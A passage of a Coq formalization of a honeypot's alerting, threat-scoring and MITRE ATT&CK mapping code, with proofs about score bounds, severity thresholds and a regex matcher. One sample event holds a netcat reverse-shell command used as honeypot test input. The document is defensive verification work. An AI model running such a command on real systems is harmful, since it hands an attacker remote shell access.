  msg_honeypot : string;
  msg_details : string;
  msg_mitre_techniques : list string;
}.

Inductive Channel : Type := Email | Telegram | Slack.

(** One call of a channel's [send]: the message and the keyword argument
    ([priority] of the email channel, [color] of the Slack channel). A
    [send] handles its own exceptions, so a call always returns; what it
    and the alert manager print is not modelled. *)
Record Dispatch : Type := {
  channel : Channel;
  payload : AlertMessage;
  keyword : option string;
}.

(** [self.alert_window = timedelta(minutes=5)], in microseconds. *)
Definition alert_window : Z := 5 * 60000000.

(** [recent_alerts] maps an alert key to the reading of the clock at which
    the key was last marked; a reading of [datetime.utcnow()] is naive and
    is its number of microseconds. *)
Definition _is_duplicate (recent_alerts : gmap string Z) (now : Z)
    (alert_key : string) : bool :=
  match recent_alerts !! alert_key with
  | Some last_alert => now - last_alert <? alert_window
  | None => false
  end.

Definition _calculate_severity (score : Z) : string :=
  if 76 <=? score then (if 90 <=? score then "CRITICAL" else "HIGH")
  else if 51 <=? score then "MEDIUM"
  else if 26 <=? score then "LOW"
  else "INFO".

(** [f"{src_ip}_{event.get('eventid')}"]: a missing eventid prints as
    [None]. *)
Definition alert_key_of (event : AlertEvent) : string :=
  default "unknown" (ev_src_ip event) +:+ "_"
  +:+ default "None" (ev_eventid event).

Section WithClock.

(** [datetime.isoformat] on a reading of the clock. *)
Variable isoformat : datetime → string.

Definition _format_alert_message (now : Z) (event : AlertEvent)
    (severity : string) : AlertMessage :=
  {| msg_severity := severity;
     msg_timestamp :=
       default (isoformat {| dt_wall := now; dt_utcoffset := None |})
               (ev_timestamp event);
     msg_attacker_ip := default "unknown" (ev_src_ip event);
     msg_country :=
       default "Unknown"
               (country_name (default {| country_name := None |}
                                      (ev_geoip event)));
     msg_attack_type := default "unknown" (ev_eventid event);
     msg_threat_score := default 0 (ev_threat_score event);
     msg_honeypot := default "unknown" (ev_honeypot_type event);
     msg_details := default "No details available" (ev_message event);
     msg_mitre_techniques := default [] (ev_mitre_techniques event) |}.

Definition _send_critical_alert (now : Z) (event : AlertEvent)
  : list Dispatch :=
  let message := _format_alert_message now event "CRITICAL" in
  [{| channel := Email; payload := message; keyword := Some "urgent" |};
   {| channel := Telegram; payload := message; keyword := None |};
   {| channel := Slack; payload := message; keyword := Some "danger" |}].

Definition _send_high_alert (now : Z) (event : AlertEvent) : list Dispatch :=
  let message := _format_alert_message now event "HIGH" in
  [{| channel := Email; payload := message; keyword := Some "high" |};
   {| channel := Telegram; payload := message; keyword := None |}].

Definition _send_medium_alert (now : Z) (event : AlertEvent)
  : list Dispatch :=
  let message := _format_alert_message now event "MEDIUM" in
  [{| channel := Email; payload := message; keyword := Some "normal" |}].

(** [process_event]: the calls of [send] it makes and the new
    [recent_alerts]. The three readings of the clock are the one of
    [_is_duplicate], the one of [_format_alert_message] and the one the
    key is marked with. *)
Definition process_event (t_check t_format t_mark : Z) (event : AlertEvent)
    (recent_alerts : gmap string Z) : list Dispatch * gmap string Z :=
  let threat_score := default 0 (ev_threat_score event) in
  let alert_key := alert_key_of event in
  if _is_duplicate recent_alerts t_check alert_key then ([], recent_alerts)
  else
    let sent :=
      if 90 <=? threat_score then _send_critical_alert t_format event
      else if 76 <=? threat_score then _send_high_alert t_format event
      else if 51 <=? threat_score then _send_medium_alert t_format event
      else [] in
    (sent, <[alert_key := t_mark]> recent_alerts).

End WithClock.

(** [cleanup_old_alerts] at the reading [now] of the clock. *)
Definition cleanup_old_alerts (now : Z) (recent_alerts : gmap string Z)
  : gmap string Z :=
  let cutoff := now - alert_window in
  filter (fun entry => cutoff < entry.2) recent_alerts.

End Alerting.

(** ** More sample inputs *)

Module MoreSamples.

(** A reverse shell typed into the shell honeypot. *)
Definition reverse_shell : Event := {|
  eventid := Some "cowrie.command.input";
  input := Some "nc 203.0.113.9 4444 -e /bin/sh";
  alert_msg := None; connection_type := None; protocol := None;
  timestamp := None; at_timestamp := None;
  priority := None; attack_speed := None;
  is_persistent := false; is_bot := false;
  reputation := None; geo := None; mitre := None;
|}.

(** A failed login whose time stamp is no date. *)
Definition garbled_timestamp : Event := {|
  eventid := Some "cowrie.login.failed"; input := None;
  alert_msg := None; connection_type := None; protocol := None;
  timestamp := None; at_timestamp := Some "yesterday";
  priority := None; attack_speed := None;
  is_persistent := false; is_bot := false;
  reputation := None; geo := None; mitre := None;
|}.

(** The event with its key ["@timestamp"] removed. *)
Definition without_at_timestamp (event : Event) : Event := {|
  eventid := eventid event; input := input event;
  alert_msg := alert_msg event; connection_type := connection_type event;
  protocol := protocol event;
  timestamp := timestamp event; at_timestamp := None;
  priority := priority event; attack_speed := attack_speed event;
  is_persistent := is_persistent event; is_bot := is_bot event;
  reputation := reputation event; geo := geo event; mitre := mitre event;
|}.

(** The labels [_identify_attack_type] returns outside the command table,
    and the labels of the command table. *)
Definition fixed_labels : list string :=
  ["brute_force_failed"; "brute_force_success"; "malware_download";
   "command_execution"; "exploit_attempt"; "brute_force_attempt";
   "port_scan"; "unknown"].

Definition command_labels : list string :=
  (fun entry => entry.2.1) <$> Scoring.COMMAND_PATTERNS.

(** A response one of whose hits has no [_source]. *)
Definition store_broken_hit (request : Correlation.SearchRequest)
  : result Correlation.SearchResponse :=
  Ok {| Correlation.hits :=
          Some [{| Correlation._source :=
                     Some (Samples.event_at "cowrie.login.failed" None) |};
                {| Correlation._source := None |}];
        Correlation.by_source_ip := None |}.

(** A store that is unreachable. *)
Definition store_down (request : Correlation.SearchRequest)
  : result Correlation.SearchResponse :=
  Raise ConnectionError.

(** An alert event of the given score. *)
Definition alert_of (score : Z) : Alerting.AlertEvent := {|
  Alerting.ev_threat_score := Some score;
  Alerting.ev_src_ip := Some "203.0.113.9";
  Alerting.ev_eventid := Some "cowrie.login.success";
  Alerting.ev_timestamp := Some "2024-01-01T12:00:00";
  Alerting.ev_geoip := None;
  Alerting.ev_honeypot_type := Some "cowrie";
  Alerting.ev_message := None;
  Alerting.ev_mitre_techniques := None;
|}.

End MoreSamples.

(** * Properties *)

(** ** Regular expressions *)

Module ReFacts.

Import Re.

Lemma search_compiled ic p r text :
  compile p = Some r → search ic p text = Ok (search_re ic r text).
Proof. unfold search. intros ->. reflexivity. Qed.

Lemma search_ok ic p text :
  is_Some (compile p) → ∃ b, search ic p text = Ok b.
Proof.
  intros [r Hr]. exists (search_re ic r text). apply search_compiled, Hr.
Qed.

Lemma search_raises ic p text :
  compile p = None → search ic p text = Raise ReError.
Proof. unfold search. intros ->. reflexivity. Qed.

Lemma app_cons_str x (a b : string) :
  String x a +:+ b = String x (a +:+ b).
Proof. reflexivity. Qed.

Lemma prefix_match_app_r ic b : ∀ r c,
  prefix_match ic r b = true → prefix_match ic r (b +:+ c) = true.
Proof.
  induction b as [|x b IH]; intros r c H.
  - change ("" +:+ c) with c.
    destruct (nullable r) eqn:E; [|simpl in H; rewrite E in H; discriminate].
    destruct c; simpl; rewrite E; reflexivity.
  - rewrite app_cons_str. simpl in *.
    apply orb_true_iff in H as [-> | H]; [reflexivity|].
    rewrite (IH _ c H). apply orb_true_r.
Qed.

Lemma search_re_app_r ic r b : ∀ c,
  search_re ic r b = true → search_re ic r (b +:+ c) = true.
Proof.
  induction b as [|x b IH]; intros c H.
  - change ("" +:+ c) with c.
    destruct (nullable r) eqn:E; [|simpl in H; rewrite E in H; discriminate].
    destruct c; simpl; rewrite E; reflexivity.
  - rewrite app_cons_str.
    change (search_re ic r (String x b))
      with (prefix_match ic r (String x b) || search_re ic r b) in H.
    change (search_re ic r (String x (b +:+ c)))
      with (prefix_match ic r (String x (b +:+ c))
            || search_re ic r (b +:+ c)).
    apply orb_true_iff in H as [H | H].
    + apply (prefix_match_app_r ic _ _ c) in H.
      rewrite app_cons_str in H. rewrite H. reflexivity.
    + rewrite (IH c H). apply orb_true_r.
Qed.

Lemma search_re_app_l ic r a : ∀ t,
  search_re ic r t = true → search_re ic r (a +:+ t) = true.
Proof.
  induction a as [|x a IH]; intros t H; [exact H|].
  rewrite app_cons_str.
  change (search_re ic r (String x (a +:+ t)))
    with (prefix_match ic r (String x (a +:+ t))
          || search_re ic r (a +:+ t)).
  rewrite (IH _ H). apply orb_true_r.
Qed.

(** A pattern found in [b] is found in any text around [b]. *)
Lemma search_re_around ic r a b c :
  search_re ic r b = true → search_re ic r (a +:+ b +:+ c) = true.
Proof. intros H. apply search_re_app_l, search_re_app_r, H. Qed.

(** *** The matcher decides the language *)

Lemma app_empty_inv (a b : string) : "" = a +:+ b → a = "" ∧ b = "".
Proof.
  destruct a as [|x a]; [change ("" +:+ b) with b; intros <-; auto|].
  rewrite app_cons_str. discriminate.
Qed.

Lemma app_cons_inv c s (a b : string) :
  String c s = a +:+ b →
  (a = "" ∧ b = String c s) ∨ ∃ a', a = String c a' ∧ s = a' +:+ b.
Proof.
  destruct a as [|x a]; [change ("" +:+ b) with b; intros <-; auto|].
  rewrite app_cons_str. intros [= <- ->]. right. eauto.
Qed.

Lemma nullable_lang ic r : nullable r = true ↔ Lang ic r "".
Proof.
  induction r as [| | cs | r1 IH1 r2 IH2 | r1 IH1 r2 IH2 | r IH]; simpl.
  - split; [discriminate | inversion 1].
  - split; [constructor | reflexivity].
  - split; [discriminate | inversion 1].
  - rewrite andb_true_iff, IH1, IH2. split.
    + intros [H1 H2].
      apply (LSeq ic r1 r2 "" ""); first [assumption | reflexivity].
    + inversion 1 as [| |? ? s1 s2 ? H1 H2 Hs| | | |]; subst.
      apply app_empty_inv in Hs as [-> ->]. auto.
  - rewrite orb_true_iff, IH1, IH2. split.
    + intros [H|H]; [now apply LAltL | now apply LAltR].
    + inversion 1; auto.
  - split; [constructor | reflexivity].
Qed.

Lemma lang_mk_seq ic r1 r2 s :
  Lang ic (mk_seq r1 r2) s ↔ Lang ic (Seq r1 r2) s.
Proof.
  destruct r1; simpl; try reflexivity.
  - split; [inversion 1|].
    inversion 1 as [| |? ? s1 s2 ? H1| | | |]; inversion H1.
  - split.
    + intros H.
      apply (LSeq ic Eps r2 "" s);
        first [assumption | constructor | reflexivity].
    + inversion 1 as [| |? ? s1 s2 ? H1 H2 Hs| | | |]; subst.
      inversion H1; subst. exact H2.
Qed.

Lemma lang_mk_alt ic r1 r2 s :
  Lang ic (mk_alt r1 r2) s ↔ Lang ic (Alt r1 r2) s.
Proof.
  assert (Hvoid : ∀ t, ¬ Lang ic Void t) by (intros t; inversion 1).
  assert (Hl : Lang ic r2 s ↔ Lang ic (Alt Void r2) s).
  { split; [apply LAltR|]. inversion 1; [exfalso; eapply Hvoid; eauto | auto]. }
  assert (Hr : Lang ic r1 s ↔ Lang ic (Alt r1 Void) s).
  { split; [apply LAltL|]. inversion 1; [auto | exfalso; eapply Hvoid; eauto]. }
  destruct r1; simpl; try exact Hl; destruct r2; simpl;
    first [exact Hr | reflexivity].
Qed.

Lemma star_cons_inv ic r c s :
  Lang ic (Star r) (String c s) →
  ∃ s1 s2, s = s1 +:+ s2 ∧ Lang ic r (String c s1) ∧ Lang ic (Star r) s2.
Proof.
  intros H. remember (Star r) as r' eqn:Er. remember (String c s) as t eqn:Et.
  revert Er Et.
  induction H as [| | | | | |r0 s1 s2 t H1 _ H2 IH2 Ht]; try discriminate.
  intros [= ->] ->.
  apply app_cons_inv in Ht as [[-> ->] | (a' & -> & ->)].
  - now apply IH2.
  - eauto.
Qed.

Lemma deriv_lang ic r : ∀ c s,
  Lang ic (deriv ic c r) s ↔ Lang ic r (String c s).
Proof.
  induction r as [| | cs | r1 IH1 r2 IH2 | r1 IH1 r2 IH2 | r IH];
    intros c s; simpl.
  - split; inversion 1.
  - split; inversion 1.
  - destruct (char_match ic cs c) eqn:E.
    + split.
      * inversion 1; subst. now constructor.
      * inversion 1; subst. constructor.
    + split; [inversion 1|]. inversion 1; subst. congruence.
  - rewrite lang_mk_alt. split.
    + inversion 1 as [| | |? ? ? H1|? ? ? H1| |]; subst.
      * apply lang_mk_seq in H1.
        inversion H1 as [| |? ? s1 s2 ? Ha Hb Hs| | | |]; subst.
        apply IH1 in Ha. apply (LSeq ic r1 r2 (String c s1) s2);
          first [assumption | reflexivity].
      * destruct (nullable r1) eqn:En; [|inversion H1].
        apply (nullable_lang ic) in En. apply IH2 in H1.
        apply (LSeq ic r1 r2 "" (String c s));
          first [assumption | reflexivity].
    + inversion 1 as [| |? ? s1 s2 ? Ha Hb Hs| | | |]; subst.
      apply app_cons_inv in Hs as [[-> ->] | (a' & -> & ->)].
      * apply LAltR. apply (nullable_lang ic) in Ha. rewrite Ha.
        now apply IH2.
      * apply LAltL, lang_mk_seq. apply IH1 in Ha.
        apply (LSeq ic _ r2 a' s2); first [assumption | reflexivity].
  - rewrite lang_mk_alt. split.
    + inversion 1; subst; [apply LAltL | apply LAltR];
        [now apply IH1 | now apply IH2].
    + inversion 1; subst; [apply LAltL | apply LAltR];
        [now apply IH1 | now apply IH2].
  - rewrite lang_mk_seq. split.
    + inversion 1 as [| |? ? s1 s2 ? Ha Hb Hs| | | |]; subst.
      apply IH in Ha.
      apply (LStarCons ic r (String c s1) s2);
        first [assumption | reflexivity].
    + intros H. apply star_cons_inv in H as (s1 & s2 & -> & Ha & Hb).
      apply IH in Ha.
      apply (LSeq ic _ (Star r) s1 s2); first [assumption | reflexivity].
Qed.

(** [matches] decides membership in the language. *)
Lemma matches_lang ic s : ∀ r, matches ic r s = true ↔ Lang ic r s.
Proof.
  induction s as [|c s IH]; intros r; simpl.
  - apply nullable_lang.
  - rewrite IH. apply deriv_lang.
Qed.

Lemma prefix_match_lang ic s : ∀ r,
  prefix_match ic r s = true ↔ ∃ b c, s = b +:+ c ∧ Lang ic r b.
Proof.
  induction s as [|x s IH]; intros r; simpl.
  - rewrite orb_false_r, (nullable_lang ic). split.
    + intros H. exists "", "". auto.
    + intros (b & c & Hs & H). apply app_empty_inv in Hs as [-> _]. exact H.
  - rewrite orb_true_iff, (nullable_lang ic), IH. split.
    + intros [H | (b & c & -> & H)].
      * exists "", (String x s). auto.
      * exists (String x b), c. split; [reflexivity|]. now apply deriv_lang.
    + intros (b & c & Hs & H).
      apply app_cons_inv in Hs as [[-> ->] | (b' & -> & ->)]; [auto|].
      right. exists b', c. split; [reflexivity|]. now apply deriv_lang.
Qed.

(** [search_re] finds a pattern exactly when a substring of the text is
    in its language. *)
Lemma search_re_lang ic r s :
  search_re ic r s = true ↔ ∃ a b c, s = a +:+ b +:+ c ∧ Lang ic r b.
Proof.
  induction s as [|x s IH].
  - simpl. rewrite orb_false_r, orb_false_r, (nullable_lang ic). split.
    + intros H. exists "", "", "". auto.
    + intros (a & b & c & Hs & H).
      apply app_empty_inv in Hs as [-> Hs].
      symmetry in Hs. apply app_empty_inv in Hs as [-> _]. exact H.
  - change (search_re ic r (String x s))
      with (prefix_match ic r (String x s) || search_re ic r s).
    rewrite orb_true_iff, IH, prefix_match_lang. split.
    + intros [(b & c & Hs & H) | (a & b & c & -> & H)].
      * exists "", b, c. auto.
      * exists (String x a), b, c. auto.
    + intros (a & b & c & Hs & H).
      apply app_cons_inv in Hs as [[-> Hs] | (a' & -> & ->)].
      * left. exists b, c. auto.
      * right. exists a', b, c. auto.
Qed.

Lemma lower_app a b : Text.lower (a +:+ b) = Text.lower a +:+ Text.lower b.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma app_assoc_str (a b c : string) : (a +:+ b) +:+ c = a +:+ (b +:+ c).
Proof.
  induction a as [|x a IH]; [reflexivity|].
  rewrite !app_cons_str, IH. reflexivity.
Qed.

End ReFacts.

(** ** Threat scoring engine *)

Module ScoringFacts.

Import Scoring.
Local Open Scope Z_scope.

Lemma command_patterns_compile :
  Forall (fun entry => is_Some (Re.compile entry.1)) COMMAND_PATTERNS.
Proof. repeat constructor; vm_compute; eauto. Qed.

Lemma first_command_pattern_total table text :
  Forall (fun entry => is_Some (Re.compile entry.1)) table →
  ∃ found, first_command_pattern table text = Ok found.
Proof.
  induction 1 as [|[p [ty w]] rest Hp _ IH]; simpl; [eauto|].
  destruct (ReFacts.search_ok true p text Hp) as [b ->]; simpl.
  destruct b; eauto.
Qed.

Lemma identify_attack_type_total event :
  ∃ ty, _identify_attack_type event = Ok ty.
Proof.
  unfold _identify_attack_type.
  repeat (case_match; eauto).
  destruct (first_command_pattern_total COMMAND_PATTERNS
              (Text.lower (Text.get_str (input event)))
              command_patterns_compile) as [found ->].
  simpl; eauto.
Qed.

Lemma attack_type_scores_range ty v :
  ATTACK_TYPE_SCORES !! ty = Some v → 5 ≤ v ≤ 95.
Proof.
  intros H. apply elem_of_list_to_map_2 in H.
  change (5 ≤ (ty, v).2 ≤ 95). revert H. generalize (ty, v).
  apply Forall_forall.
  repeat constructor; simpl; lia.
Qed.

Lemma attack_type_score_nonneg ty :
  5 ≤ default 10 (ATTACK_TYPE_SCORES !! ty) ≤ 95.
Proof.
  destruct (ATTACK_TYPE_SCORES !! ty) as [v|] eqn:E; simpl; [|lia].
  eapply attack_type_scores_range, E.
Qed.

Lemma high_risk_countries_range cc :
  0 ≤ default 0 (HIGH_RISK_COUNTRIES !! cc) ≤ 20.
Proof.
  destruct (HIGH_RISK_COUNTRIES !! cc) as [v|] eqn:E; simpl; [|lia].
  apply elem_of_list_to_map_2 in E.
  change (0 ≤ (cc, v).2 ≤ 20). revert E. generalize (cc, v).
  apply Forall_forall. repeat constructor; simpl; lia.
Qed.

Lemma assess_sophistication_total event :
  ∃ s, _assess_sophistication event = Ok s ∧ 0 ≤ s ≤ 30.
Proof.
  unfold _assess_sophistication.
  repeat match goal with
  | |- context [Re.search false ?p ?t] =>
      let b := fresh "b" in
      destruct (ReFacts.search_ok false p t) as [b ->];
      [vm_compute; eauto | cbn [rbind]]
  end.
  eexists; split; [reflexivity|].
  repeat case_match; lia.
Qed.

Lemma assess_ip_reputation_range event :
  0 ≤ _assess_ip_reputation event ≤ 25.
Proof. unfold _assess_ip_reputation. repeat case_match; lia. Qed.

Lemma assess_temporal_patterns_range parse event :
  0 ≤ _assess_temporal_patterns parse event ≤ 20.
Proof.
  unfold _assess_temporal_patterns, try_except, rbind.
  repeat case_match; simplify_eq; lia.
Qed.

End ScoringFacts.

Module ScoringTheorems.

Import Scoring ScoringFacts.
Local Open Scope Z_scope.

(** What [calculate_score] returns, and the range of each sub-score. *)
Lemma calculate_score_ok parse event :
  ∃ out, calculate_score parse event = Ok out
    ∧ threat_score out = final_score (breakdown out)
    ∧ severity out = _score_to_severity (final_score (breakdown out))
    ∧ final_score (breakdown out)
      = Z.min 100
          (py_int (inject_Z (attack_type_score (breakdown out)
                             + sophistication_score (breakdown out))
                   * success_multiplier (breakdown out)
                   + inject_Z (ip_reputation_score (breakdown out)
                               + geo_risk_score (breakdown out)
                               + temporal_score (breakdown out)))%Q)
    ∧ 5 ≤ attack_type_score (breakdown out) ≤ 95
    ∧ 0 ≤ sophistication_score (breakdown out) ≤ 30
    ∧ (success_multiplier (breakdown out) = 1%Q
       ∨ success_multiplier (breakdown out) = (3 # 2)%Q)
    ∧ 0 ≤ ip_reputation_score (breakdown out) ≤ 25
    ∧ 0 ≤ geo_risk_score (breakdown out) ≤ 20
    ∧ 0 ≤ temporal_score (breakdown out) ≤ 20.
Proof.
  unfold calculate_score.
  destruct (identify_attack_type_total event) as [ty ->].
  destruct (assess_sophistication_total event) as [s [-> Hs]].
  cbn [rbind]. eexists; split; [reflexivity|].
  cbn [threat_score severity breakdown final_score attack_type_score
       sophistication_score success_multiplier ip_reputation_score
       geo_risk_score temporal_score].
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  split; [apply attack_type_score_nonneg|]. split; [exact Hs|].
  split; [destruct (_is_successful_attack event); auto|].
  split; [apply assess_ip_reputation_range|].
  split; [|apply assess_temporal_patterns_range].
  destruct (country_code _); [apply high_risk_countries_range | lia].
Qed.

Lemma code_sum_nonneg (n k : Z) (m : Q) :
  0 ≤ n → 0 ≤ k → m = 1%Q ∨ m = (3 # 2)%Q →
  (0 <= inject_Z n * m + inject_Z k)%Q.
Proof.
  intros Hn Hk Hm.
  assert (0 <= inject_Z n * m)%Q.
  { apply Qmult_le_0_compat.
    - unfold Qle; simpl; lia.
    - destruct Hm as [-> | ->]; unfold Qle; simpl; lia. }
  assert (0 <= inject_Z k)%Q by (unfold Qle; simpl; lia).
  replace 0%Q with (0 + 0)%Q by reflexivity.
  now apply Qplus_le_compat.
Qed.

Lemma py_int_nonneg x : (0 <= x)%Q → py_int x = Qfloor x ∧ 0 ≤ Qfloor x.
Proof.
  intros H. unfold py_int.
  apply Qle_bool_iff in H as Hb. rewrite Hb. split; [reflexivity|].
  apply (Qfloor_resp_le 0 x H).
Qed.

Lemma breakdown_sum_floor b :
  5 ≤ attack_type_score b ≤ 95 →
  0 ≤ sophistication_score b ≤ 30 →
  success_multiplier b = 1%Q ∨ success_multiplier b = (3 # 2)%Q →
  0 ≤ ip_reputation_score b ≤ 25 →
  0 ≤ geo_risk_score b ≤ 20 →
  0 ≤ temporal_score b ≤ 20 →
  let x := (inject_Z (attack_type_score b + sophistication_score b)
            * success_multiplier b
            + inject_Z (ip_reputation_score b + geo_risk_score b
                        + temporal_score b))%Q in
  py_int x = Qfloor x ∧ 0 ≤ Qfloor x.
Proof.
  intros Ha Hs Hm Hr Hg Ht x. apply py_int_nonneg.
  apply code_sum_nonneg; [lia | lia | exact Hm].
Qed.

Lemma weighted_sum_code b :
  (weighted_sum b ==
     inject_Z (attack_type_score b + sophistication_score b)
     * success_multiplier b
     + inject_Z (ip_reputation_score b + geo_risk_score b
                 + temporal_score b))%Q.
Proof. unfold weighted_sum. rewrite !inject_Z_plus. ring. Qed.

(** C1, as amended: the final score is the weighted sum of the
    sub-scores of the breakdown, cut to its integer part (not rounded)
    and clamped to the range 0 to 100. *)
Theorem final_score_is_truncated_sum parse event :
  ∃ out, calculate_score parse event = Ok out
    ∧ threat_score out = final_score (breakdown out)
    ∧ final_score (breakdown out) = truncated_final_score (breakdown out).
Proof.
  destruct (calculate_score_ok parse event)
    as (out & Hout & Hts & _ & Hfin & Ha & Hs & Hm & Hr & Hg & Ht).
  exists out. split; [exact Hout|]. split; [exact Hts|].
  rewrite Hfin. unfold truncated_final_score, clamp.
  rewrite (Qfloor_comp _ _ (weighted_sum_code (breakdown out))).
  destruct (breakdown_sum_floor _ Ha Hs Hm Hr Hg Ht) as [-> Hge].
  lia.
Qed.

(** C1, as stated, fails: a bare command event scores 37, and the
    rounded sum of its sub-scores is 38. *)
Lemma final_score_is_not_rounded_sum :
  ∃ out, calculate_score Samples.fromisoformat Samples.bare_command = Ok out
    ∧ attack_type_score (breakdown out) = 25
    ∧ sophistication_score (breakdown out) = 0
    ∧ success_multiplier (breakdown out) = (3 # 2)%Q
    ∧ ip_reputation_score (breakdown out) = 0
    ∧ geo_risk_score (breakdown out) = 0
    ∧ temporal_score (breakdown out) = 0
    ∧ final_score (breakdown out) = 37
    ∧ rounded_final_score (breakdown out) = 38
    ∧ final_score (breakdown out) ≠ rounded_final_score (breakdown out).
Proof.
  eexists. split; [vm_compute; reflexivity|].
  repeat split; vm_compute; congruence.
Qed.

Lemma score_to_severity_thresholds score :
  (score < 26 → _score_to_severity score = "low")
  ∧ (26 ≤ score ≤ 50 → _score_to_severity score = "medium")
  ∧ (51 ≤ score ≤ 75 → _score_to_severity score = "high")
  ∧ (76 ≤ score → _score_to_severity score = "critical").
Proof.
  unfold _score_to_severity.
  repeat split; intros; repeat case_match; first [reflexivity | lia].
Qed.

Lemma score_to_severity_monotone s1 s2 :
  s1 ≤ s2 →
  (severity_rank (_score_to_severity s1)
   ≤ severity_rank (_score_to_severity s2))%nat.
Proof.
  intros H. unfold _score_to_severity.
  repeat case_match; vm_compute severity_rank; lia.
Qed.

(** C2: the final score lies between 0 and 100, and the severity label
    is the function [_score_to_severity] of the final score alone, which
    is monotone with the thresholds 26, 51 and 76. *)
Theorem final_score_bounded_and_severity_by_threshold parse event :
  ∃ out, calculate_score parse event = Ok out
    ∧ 0 ≤ final_score (breakdown out) ≤ 100
    ∧ threat_score out = final_score (breakdown out)
    ∧ severity out = _score_to_severity (final_score (breakdown out))
    ∧ (∀ score,
         (score < 26 → _score_to_severity score = "low")
         ∧ (26 ≤ score ≤ 50 → _score_to_severity score = "medium")
         ∧ (51 ≤ score ≤ 75 → _score_to_severity score = "high")
         ∧ (76 ≤ score → _score_to_severity score = "critical"))
    ∧ (∀ s1 s2, s1 ≤ s2 →
         (severity_rank (_score_to_severity s1)
          ≤ severity_rank (_score_to_severity s2))%nat).
Proof.
  destruct (calculate_score_ok parse event)
    as (out & Hout & Hts & Hsev & Hfin & Ha & Hs & Hm & Hr & Hg & Ht).
  exists out. split; [exact Hout|].
  split.
  { rewrite Hfin.
    destruct (breakdown_sum_floor _ Ha Hs Hm Hr Hg Ht) as [-> Hge].
    lia. }
  split; [exact Hts|]. split; [exact Hsev|].
  split; [exact score_to_severity_thresholds|].
  exact score_to_severity_monotone.
Qed.

(** C3: the successful login of a blocklisted address is classified
    brute_force_success with attack-type score 40, multiplier 1.5 and
    reputation score 20; its final score is 80, severity critical. *)
Theorem blocklisted_login_scores_80 parse :
  ∃ out, calculate_score parse Samples.blocklisted_login = Ok out
    ∧ attack_type out = "brute_force_success"
    ∧ attack_type_score (breakdown out) = 40
    ∧ sophistication_score (breakdown out) = 0
    ∧ success_multiplier (breakdown out) = (3 # 2)%Q
    ∧ ip_reputation_score (breakdown out) = 20
    ∧ geo_risk_score (breakdown out) = 0
    ∧ temporal_score (breakdown out) = 0
    ∧ final_score (breakdown out) = 80
    ∧ threat_score out = 80
    ∧ severity out = "critical".
Proof.
  eexists. split; [vm_compute; reflexivity|].
  repeat split.
Qed.

End ScoringTheorems.

(** ** MITRE ATT&CK mapper *)

Module MitreFacts.

Import Mitre.

(** *** The inner loop *)

Lemma first_matching_pattern_total ps text :
  Forall (fun p => is_Some (Re.compile p)) ps →
  ∃ found, first_matching_pattern ps text = Ok found.
Proof.
  induction 1 as [|p rest Hp _ IH]; simpl; [eauto|].
  destruct (ReFacts.search_ok true p text Hp) as [b ->]; simpl.
  destruct b; eauto.
Qed.

Lemma first_matching_pattern_some ps text p :
  first_matching_pattern ps text = Ok (Some p) →
  ∃ pre post, ps = (pre ++ p :: post)%list
    ∧ Forall (no_hit text) pre
    ∧ Re.search true p text = Ok true.
Proof.
  induction ps as [|q rest IH]; simpl; [discriminate|].
  destruct (Re.search true q text) as [[|]|e] eqn:E; simpl; try discriminate.
  - intros [= <-]. exists [], rest. auto.
  - intros H. destruct (IH H) as (pre & post & -> & Hpre & Hp).
    exists (q :: pre), post. repeat split; auto.
Qed.

(** The first pattern that matches decides, whatever follows it. *)
Lemma first_match_wins pre p post text :
  Forall (no_hit text) pre →
  Re.search true p text = Ok true →
  first_matching_pattern (pre ++ p :: post) text = Ok (Some p).
Proof.
  induction 1 as [|q pre Hq _ IH]; intros Hp; simpl.
  - rewrite Hp. reflexivity.
  - rewrite Hq. simpl. auto.
Qed.

Lemma first_matching_pattern_no_hits ps text :
  Forall (no_hit text) ps → first_matching_pattern ps text = Ok None.
Proof.
  induction 1 as [|q rest Hq _ IH]; simpl; [reflexivity|].
  rewrite Hq. simpl. exact IH.
Qed.

Lemma first_matching_pattern_hit ps text p :
  Forall (fun q => is_Some (Re.compile q)) ps →
  p ∈ ps → Re.search true p text = Ok true →
  ∃ q, first_matching_pattern ps text = Ok (Some q).
Proof.
  induction 1 as [|q rest Hq _ IH]; intros Hin Hp.
  - now apply elem_of_nil in Hin.
  - simpl. destruct (ReFacts.search_ok true q text Hq) as [b Hb].
    rewrite Hb; simpl. destruct b; [eauto|].
    apply elem_of_cons in Hin as [-> | Hin]; [congruence | auto].
Qed.

(** *** The record of one event *)

Lemma empty_mapped_well_formed : well_formed empty_mapped.
Proof.
  split; simpl; try constructor; try reflexivity.
  - intros H; now apply elem_of_nil in H.
  - intros (d & H & _); now apply elem_of_nil in H.
Qed.

Lemma record_match_well_formed m tid data p m' :
  well_formed m → record_match m tid data p = Ok m' → well_formed m'.
Proof.
  intros [Hte Hta Hd Htd]. unfold record_match.
  case_bool_decide as Htid; [intros [= <-]; now split|].
  destruct (TACTICS !! tactic data) as [tname|] eqn:Etac; [|discriminate].
  intros [= <-]. split; simpl.
  - apply NoDup_app. repeat split; auto.
    + intros x Hx Hx'. apply list_elem_of_singleton in Hx'. congruence.
    + apply NoDup_singleton.
  - case_bool_decide as Htac; [assumption|].
    apply NoDup_app. repeat split; auto.
    + intros x Hx Hx'. apply list_elem_of_singleton in Hx'. congruence.
    + apply NoDup_singleton.
  - rewrite fmap_app, Hd. reflexivity.
  - intros t. split.
    + intros Ht.
      assert (t ∈ tactics m ∨ t = tactic data) as [Hin | ->].
      { case_bool_decide; [auto|].
        apply elem_of_app in Ht as [?|Ht]; [auto|].
        apply list_elem_of_singleton in Ht; auto. }
      * apply Htd in Hin as (d & Hd1 & Hd2).
        exists d. split; [apply elem_of_app; auto | assumption].
      * eexists. split; [apply elem_of_app; right; apply list_elem_of_singleton;
                         reflexivity | reflexivity].
    + intros (d & Hin & <-).
      apply elem_of_app in Hin as [Hin | Hin].
      * assert (tactic_id d ∈ tactics m) by (apply Htd; eauto).
        case_bool_decide; [assumption | apply elem_of_app; auto].
      * apply list_elem_of_singleton in Hin as ->. simpl.
        case_bool_decide; [assumption|].
        apply elem_of_app; right. now apply list_elem_of_singleton.
Qed.

Lemma record_match_details m tid data p m' :
  record_match m tid data p = Ok m' →
  technique_details m' = technique_details m
  ∨ ∃ tname, TACTICS !! tactic data = Some tname
      ∧ (tid ∉ techniques m)
      ∧ techniques m' = (techniques m ++ [tid])%list
      ∧ technique_details m' =
          (technique_details m ++
           [{| technique_id := tid; technique_name := name data;
